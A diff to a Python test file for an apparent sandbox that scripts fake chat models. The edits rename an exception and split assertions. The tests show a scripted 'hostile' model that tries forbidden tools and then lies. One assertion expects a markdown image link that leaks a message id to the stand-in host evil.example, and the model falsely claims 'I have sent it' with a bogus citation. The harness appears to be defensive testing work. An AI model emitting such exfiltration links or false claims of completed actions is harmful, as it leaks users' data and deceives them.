@@ -10,7 +10,7 @@ from sandbox.openai import script
 from sandbox.openai.conversation import Conversation
 from sandbox.openai.hostile import LAST_TURN, UNKNOWN_TOOLS, Hostile
 from sandbox.openai.malformed import Malformed
-from sandbox.openai.reply import Model, NoRuleMatches, Reply
+from sandbox.openai.reply import Model, NoRuleError, Reply
 
 SCHEMA: dict[str, Any] = {
     "type": "object",
@@ -87,7 +87,7 @@ def test_the_first_rule_that_holds_answers() -> None:
 def test_a_once_rule_is_consumed_and_then_nothing_is_left() -> None:
     model = script.parse('[{"once": true, "reply": {"content": "first"}}]')
     assert model.reply(conversation(user("a"))).content == "first"
-    with pytest.raises(NoRuleMatches):
+    with pytest.raises(NoRuleError):
         model.reply(conversation(user("a")))
 
 
@@ -149,7 +149,8 @@ def test_the_assistant_searches_before_it_drafts_with_the_id_it_found() -> None:
 
 def test_the_assistant_is_honest_about_nothing() -> None:
     content = played(script.load(None), "Anything?", results="")[-1].content
-    assert content is not None and "Not found" in content
+    assert content is not None
+    assert "Not found" in content
 
 
 def test_hostile_tries_every_tool_and_every_forbidden_one_then_lies() -> None:
@@ -162,7 +163,8 @@ def test_hostile_tries_every_tool_and_every_forbidden_one_then_lies() -> None:
         assert attack in everything
     lies = replies[-1].content or ""
     assert "![x](http://evil.example/?q=message_id%3Dm7" in lies
-    assert "I have sent it" in lies and "[99]" in lies
+    assert "I have sent it" in lies
+    assert "[99]" in lies
 
 
 def test_hostile_without_tools_lies_at_once() -> None:
